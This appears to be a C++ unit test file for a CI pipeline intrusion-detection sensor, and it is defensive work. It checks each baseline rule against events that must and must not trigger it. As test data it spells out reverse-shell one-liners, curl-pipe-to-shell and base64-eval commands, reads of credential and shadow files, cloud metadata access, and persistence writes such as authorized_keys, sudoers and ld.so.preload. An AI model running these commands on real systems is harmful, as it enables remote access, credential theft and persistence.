// SPDX-License-Identifier: Apache-2.0
// Every baseline rule against events that must fire it and events that must not, read from rules/.
#include "rule/baseline.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>
#include <set>

#include "rule/program.h"
#include "rule/test_events.h"

namespace cicd {
namespace {

using test::connect;
using test::Event;
using test::exec;
using test::open;
using test::Program;
using Chain = std::vector<Program>;

const Program kBash = {"/usr/bin/bash", {"bash", "-e", "/tmp/step.sh"}};
const Program kPip = {"/usr/bin/python3.11", {"/usr/bin/python3", "-m", "pip", "install", "./x"}};
const Program kNpm = {"/usr/bin/node", {"node", "/usr/bin/npm", "ci"}};
const Program kNpmRun = {"/usr/bin/node", {"node", "/usr/bin/npm", "run", "build"}};
const Program kScript = {"/usr/bin/dash", {"/bin/sh", "/tmp/x/postinstall.sh"}};

// `program` as the script of an install starts it, and as a step of the job does.
Chain below_pip(Program program) { return {std::move(program), kScript, kPip, kBash}; }
Chain below_npm(Program program) { return {std::move(program), kScript, kNpm, kBash}; }
Chain below_npm_run(Program program) { return {std::move(program), kScript, kNpmRun, kBash}; }
Chain in_step(Program program) { return {std::move(program), kBash}; }

const Program kCat = {"/usr/bin/cat", {"cat"}};
const Program kCurl = {"/usr/bin/curl", {"curl", "--data-binary", "@-", "http://127.0.0.1/"}};
const Program kGit = {"/usr/bin/git", {"git", "checkout", "main"}};
const Program kDpkg = {"/usr/bin/dpkg", {"dpkg", "-i", "x.deb"}};

Program shell(const std::string& command) { return {"/usr/bin/dash", {"sh", "-c", command}}; }
Program python(const std::string& code) { return {"/usr/bin/python3.11", {"python3", "-c", code}}; }

Event escape(const std::string& from, const std::string& to) {
  Event event(EventType::kCgroupEscape, test::chain(in_step(kCat)));
  event.text(field::cgroup_escape::kFrom, from);
  event.text(field::cgroup_escape::kTo, to);
  return event;
}

struct Case {
  std::string rule;
  std::vector<Event> fires;
  std::vector<Event> quiet;
};

constexpr bool kWrite = true;

std::vector<Case> install_cases() {
  const std::string home = "/home/runner";
  return {
      {"package_install_reads_cloud_credentials",
       {open(home + "/.aws/credentials", below_pip(kCat)),
        open("/root/.kube/config", below_npm({"/usr/bin/node", {"node", "setup.js"}})),
        open("/root/.docker/config.json",
             {kCat, {"/usr/bin/python3.11", {"python3", "setup.py", "install"}}, kBash})},
       {open(home + "/.aws/credentials", in_step({"/usr/local/bin/aws", {"aws", "s3", "ls"}})),
        open(home + "/.aws/credentials", below_npm_run(kCat)),
        open(home + "/.aws/credentials", {kPip, kBash}),
        open(home + "/.aws/credentials", below_pip(kCat), kWrite),
        open(home + "/project/credentials", below_pip(kCat))}},
      {"package_install_reads_registry_token",
       {open(home + "/.npmrc", below_pip(kCat)), open(home + "/.pypirc", below_npm(kCat)),
        open(home + "/.npmrc", below_npm({"/usr/bin/node", {"node", "bundle.js"}}))},
       {open(home + "/.npmrc", {kNpm, kBash}),
        open(home + "/.npmrc", below_npm({"/usr/bin/node", {"node", "/usr/bin/npm", "prefix"}})),
        open(home + "/.npmrc", in_step(kCat))}},
      {"package_install_reads_keys",
       {open("/root/.ssh/id_ed25519", below_pip(kCat)),
        open("/root/.git-credentials", below_npm(kCat)), open("/root/.netrc", below_pip(kCat))},
       {open("/root/.ssh/id_ed25519", below_pip({"/usr/bin/ssh", {"ssh", "git@example.test"}})),
        open("/root/.netrc",
             below_pip({"/usr/bin/python3.11", {"python3", "-m", "pip", "install"}})),
        open("/root/.ssh/id_ed25519.pub", below_pip(kCat))}},
      {"package_install_runs_network_tool",
       {exec(below_pip(kCurl)), exec(below_npm({"/usr/bin/wget", {"wget", "http://x.test/a"}})),
        exec({kCurl,
              shell("curl x"),
              {"/usr/bin/node", {"node", "/opt/lib/npm-cli.js", "i", "x"}}})},
       {exec(in_step(kCurl)), exec(below_npm_run(kCurl)), exec(below_pip(kCat))}},
      {"package_install_tool_connects",
       {connect("127.0.0.1", 8080, below_pip(kCurl)),
        connect("203.0.113.9", 443, below_npm(kCurl))},
       {connect("127.0.0.1", 8080, in_step(kCurl)), connect("127.0.0.53", 53, below_pip(kCurl)),
        connect("203.0.113.9", 443, {kPip, kBash})}},
      {"package_install_publishes",
       {exec(below_npm({"/usr/bin/node", {"node", "/usr/bin/npm", "publish"}})),
        exec(
            below_pip({"/usr/bin/python3.11", {"python3", "/usr/bin/twine", "upload", "dist/x"}}))},
       {exec(in_step({"/usr/bin/node", {"node", "/usr/bin/npm", "publish"}})),
        exec(below_npm({"/usr/bin/node", {"node", "/usr/bin/npm", "rebuild"}}))}},
      {"package_install_runs_secret_scanner",
       {exec(below_npm({"/tmp/.x/trufflehog", {"trufflehog", "filesystem", "/"}}))},
       {exec(in_step({"/usr/bin/trufflehog", {"trufflehog", "git", "."}}))}},
  };
}

std::vector<Case> credential_cases() {
  return {
      {"cloud_metadata_access",
       {connect("169.254.169.254", 80, in_step(kCurl)),
        connect("fd00:ec2::254", 80, in_step(kCurl)),
        connect("::ffff:169.254.169.254", 80, in_step(kCurl)),
        connect("169.254.170.2", 80, below_npm(kCurl))},
       {connect("169.254.169.253", 53, in_step(kCurl)),
        connect("169.254.169.254", 80, in_step({"/usr/local/bin/aws", {"aws", "sts"}}))}},
      {"process_memory_opened",
       {open("/proc/4711/mem", in_step(python("dump"))),
        open("/proc/4711/task/4712/mem", below_npm(kCat))},
       {open("/proc/meminfo", in_step(kCat)),
        open("/proc/4711/mem", in_step({"/usr/bin/gdb", {"gdb"}})),
        open("/home/runner/proc/1/mem", in_step(kCat))}},
      {"process_environment_read",
       {open("/proc/4711/environ", in_step(kCat)), open("/proc/1/environ", below_npm(kCat))},
       {open("/proc/4711/cmdline", in_step(kCat)),
        open("/proc/4711/environ", in_step({"/usr/bin/ps", {"ps", "auxe"}}))}},
      {"runner_credentials_read",
       {open("/home/runner/actions-runner/.credentials", in_step(kCat)),
        open("/opt/runner/.credentials_rsaparams", in_step(kCat)),
        open("/etc/gitlab-runner/config.toml", in_step(kCat))},
       {open("/home/runner/actions-runner/.credentials",
             in_step({"/home/runner/actions-runner/bin/Runner.Listener", {"Runner.Listener"}})),
        open("/home/me/.credentials", in_step(kCat))}},
      {"shadow_file_opened",
       {open("/etc/shadow", in_step(kCat)), open("/etc/shadow", in_step(kCat), kWrite)},
       {open("/etc/shadow", in_step({"/usr/bin/sudo", {"sudo", "ls"}})),
        open("/etc/passwd", in_step(kCat))}},
  };
}

std::vector<Case> execution_cases() {
  return {
      {"download_piped_to_shell",
       {exec(in_step(shell("curl -fsSL https://x.test/i.sh | sh"))),
        exec(in_step(shell("wget -qO- https://x.test/i.sh |bash -s -- -y"))),
        exec(in_step({"/usr/bin/bash", {"bash", "-c", "bash <(curl -s https://x.test/u)"}}))},
       {exec(in_step(shell("curl -o a.tar.gz https://x.test/a.tar.gz"))), exec(in_step(kCurl)),
        exec(in_step(shell("v=$(curl -s https://x.test/version); echo $v"))),
        exec(in_step(shell("curl https://x.test/a.tgz | tar xz")))}},
      {"decoded_payload_run",
       {exec(in_step(shell("echo ZWNobyBoaQ== | base64 -d | bash"))),
        exec(in_step(shell("eval \"$(echo aGk= | base64 --decode)\""))),
        exec(in_step(python("exec(__import__('base64').b64decode('aGk='))"))),
        exec(in_step({"/usr/bin/node", {"node", "-e", "eval(atob('MQ=='))"}}))},
       {exec(in_step(shell("echo $KEY | base64 -d > key.json"))),
        exec(in_step(python("import base64; print(base64.b64decode('aGk='))")))}},
      {"program_run_from_memory",
       {exec(in_step({"/memfd:x (deleted)", {"kworker"}}), true),
        exec(in_step({"/memfd:runc_cloned:/proc/self/exe", {"x"}}), true)},
       {exec(in_step(kCat)), exec({{"/memfd:runc_cloned:/proc/self/exe", {"runc", "init"}},
                                   {"/usr/bin/containerd-shim-runc-v2", {"shim"}}},
                                  true)}},
      {"reverse_shell",
       {exec(in_step(
            {"/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}})),
        exec(in_step({"/usr/bin/nc.traditional", {"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}})),
        exec(in_step({"/usr/bin/socat", {"socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash"}})),
        exec(in_step(python("import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)")))},
       {exec(in_step(shell("until (: < /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done"))),
        exec(in_step({"/usr/bin/nc.openbsd", {"nc", "-z", "localhost", "5432"}})),
        exec(in_step(python("import socket; print(socket.gethostname())")))}},
      {"crypto_miner",
       {exec(in_step({"/tmp/xmrig", {"xmrig"}})),
        exec(in_step({"/tmp/a", {"a", "-o", "stratum+tcp://pool.test:3333"}}))},
       {exec(in_step({"/usr/bin/gcc", {"gcc", "xmrig.c"}}))}},
      {"tunnel_started",
       {exec(in_step({"/usr/local/bin/ngrok", {"ngrok", "http", "80"}}))},
       {exec(in_step({"/usr/bin/ssh", {"ssh", "x.test"}}))}},
      {"left_the_job_cgroup",
       {escape("/ci/job-1", "/user.slice")},
       {escape("/ci/job-1", "/ci/job-1")}},
  };
}

std::vector<Case> persistence_cases() {
  const auto write = [](const std::string& path, const Chain& chain) {
    return open(path, chain, kWrite);
  };
  const Chain tee = in_step({"/usr/bin/tee", {"tee", "-a"}});
  return {
      {"authorized_keys_written",
       {write("/root/.ssh/authorized_keys", tee)},
       {open("/root/.ssh/authorized_keys", tee), write("/root/.ssh/known_hosts", tee)}},
      {"shell_profile_written",
       {write("/root/.bashrc", tee), write("/etc/profile.d/x.sh", tee)},
       {open("/root/.bashrc", tee), write("/etc/profile.d/x.sh", in_step(kDpkg)),
        write("/root/.profile", in_step({"/tmp/rustup-init", {"rustup-init", "-y"}}))}},
      {"cron_job_written",
       {write("/etc/cron.d/x", tee), write("/var/spool/cron/crontabs/root", tee)},
       {open("/etc/crontab", tee), write("/etc/cron.d/x", in_step(kDpkg))}},
      {"systemd_unit_written",
       {write("/etc/systemd/system/x.service", tee),
        write("/root/.config/systemd/user/x.service", tee)},
       {write("/lib/systemd/system/x.service", in_step(kDpkg)),
        open("/etc/systemd/system/x", tee)}},
      {"git_hook_written",
       {write("/work/x/.git/hooks/post-checkout", tee)},
       {write("/work/x/.git/hooks/post-checkout.sample", tee),
        write("/work/x/.git/hooks/pre-push", in_step(kGit))}},
      {"workflow_file_written",
       {write("/work/x/.github/workflows/ci.yml", tee), write("/work/x/.gitlab-ci.yml", tee)},
       {write("/work/x/.github/workflows/ci.yml", in_step(kGit)),
        open("/work/x/.github/workflows/ci.yml", tee)}},
      {"sudoers_written",
       {write("/etc/sudoers", tee), write("/etc/sudoers.d/x", tee)},
       {open("/etc/sudoers", in_step({"/usr/bin/sudo", {"sudo"}})),
        write("/etc/sudoers.d/x", in_step(kDpkg))}},
      {"preload_library_configured",
       {write("/etc/ld.so.preload", tee)},
       {open("/etc/ld.so.preload", tee)}},
      {"name_resolution_changed",
       {write("/etc/hosts", tee), write("/etc/resolv.conf", tee)},
       {open("/etc/hosts", in_step(kCurl)),
        write("/etc/resolv.conf", in_step({"/usr/lib/systemd/systemd-resolved", {"resolved"}}))}},
  };
}

class Baseline : public testing::Test {
 protected:
  void SetUp() override {
    LoadedRules loaded = load_rules({CICD_SOURCE_DIR "/rules"}, {.strict = true});
    for (const Diagnostic& diagnostic : loaded.diagnostics) ADD_FAILURE() << diagnostic.format();
    CompileResult result = compile(loaded.rule_sets);
    for (const Diagnostic& diagnostic : result.diagnostics) ADD_FAILURE() << diagnostic.format();
    ASSERT_NE(result.program, nullptr);
    program_ = result.program;
    evaluator_ = make_evaluator(program_);
    for (auto part :
         {install_cases(), credential_cases(), execution_cases(), persistence_cases()}) {
      for (Case& one : part) cases_.push_back(std::move(one));
    }
  }

  std::vector<std::string> hits(const Event& event) {
    std::vector<std::string> out;
    for (const std::uint32_t hit : evaluator_->evaluate(event.record())) {
      out.push_back(program_->rules()[hit].rule.rule_id);
    }
    return out;
  }

  std::shared_ptr<const cicd::Program> program_;
  std::unique_ptr<Evaluator> evaluator_;
  std::vector<Case> cases_;
};

TEST_F(Baseline, EveryRuleFiresWhereItMustAndOnlyThere) {
  for (const Case& one : cases_) {
    for (std::size_t i = 0; i < one.fires.size(); ++i) {
      EXPECT_THAT(hits(one.fires[i]), testing::Contains(one.rule)) << "firing case " << i;
    }
    for (std::size_t i = 0; i < one.quiet.size(); ++i) {
      EXPECT_THAT(hits(one.quiet[i]), testing::Not(testing::Contains(one.rule)))
          << "quiet case " << i;
    }
  }
}

TEST_F(Baseline, EveryRuleHasCasesADescriptionAndTags) {
  std::set<std::string> covered;
  for (const Case& one : cases_) {
    EXPECT_FALSE(one.fires.empty()) << one.rule;
    EXPECT_FALSE(one.quiet.empty()) << one.rule;
    covered.insert(one.rule);
  }
  for (const CompiledRule& compiled : program_->rules()) {
    const Rule& rule = compiled.rule;
    EXPECT_TRUE(covered.erase(rule.rule_id) == 1) << rule.rule_id << " has no case or two";
    EXPECT_EQ(rule.action, RuleAction::kDetect) << rule.rule_id;
    EXPECT_FALSE(rule.rule_name.empty()) << rule.rule_id;
    for (const char* part : {"What: ", "Why: ", "Notes: "}) {
      EXPECT_THAT(rule.description, testing::HasSubstr(part)) << rule.rule_id;
    }
    EXPECT_TRUE(rule.tags.contains("mitre_tactic")) << rule.rule_id;
    EXPECT_TRUE(rule.tags.contains("mitre_technique")) << rule.rule_id;
  }
  EXPECT_THAT(covered, testing::IsEmpty()) << "cases of rules that are not there";
}

// The job of examples/demo-job as the sensor sees it.
TEST_F(Baseline, TheDemoFiresForTheInstallAndNotForBuildOrDownload) {
  EXPECT_THAT(hits(open("/tmp/d/home/.npmrc", below_pip(kCat))),
              testing::ElementsAre("package_install_reads_registry_token"));
  EXPECT_THAT(hits(open("/tmp/d/home/.aws/credentials", below_pip(kCat))),
              testing::ElementsAre("package_install_reads_cloud_credentials"));
  EXPECT_THAT(hits(exec(below_pip(kCurl))),
              testing::ElementsAre("package_install_runs_network_tool"));
  EXPECT_THAT(hits(connect("127.0.0.1", 8080, below_pip(kCurl))),
              testing::ElementsAre("package_install_tool_connects"));
  const Program make = {"/usr/bin/make", {"make", "-C", "/tmp/d/hello"}};
  for (const Program& tool : std::vector<Program>{shell("gcc -O1 -c -o sum.o sum.c"),
                                                  {"/usr/bin/gcc", {"gcc", "-c", "sum.c"}},
                                                  {"/usr/lib/gcc/cc1", {"cc1", "sum.c"}},
                                                  {"/usr/bin/as", {"as", "-o", "sum.o"}}}) {
    EXPECT_THAT(hits(exec({tool, make, kBash})), testing::IsEmpty());
    EXPECT_THAT(hits(open("/tmp/d/hello/sum.o", {tool, make, kBash}, kWrite)), testing::IsEmpty());
  }
  EXPECT_THAT(hits(exec(in_step(kCurl))), testing::IsEmpty());
  EXPECT_THAT(hits(connect("127.0.0.1", 8080, in_step(kCurl))), testing::IsEmpty());
}

TEST_F(Baseline, IsEmbeddedInTheProgramAsItStandsOnDisk) {
  const LoadedRules embedded = baseline_rules();
  EXPECT_TRUE(embedded.diagnostics.empty());
  std::map<std::string, std::string> revisions;
  for (const CompiledRule& rule : program_->rules()) {
    revisions[rule.ruleset_id] = rule.ruleset_revision;
  }
  ASSERT_EQ(embedded.rule_sets.size(), revisions.size());
  for (const RuleSet& set : embedded.rule_sets) {
    EXPECT_EQ(set.revision, revisions[set.ruleset_id]) << set.ruleset_id;
  }
}

}  // namespace
}  // namespace cicd
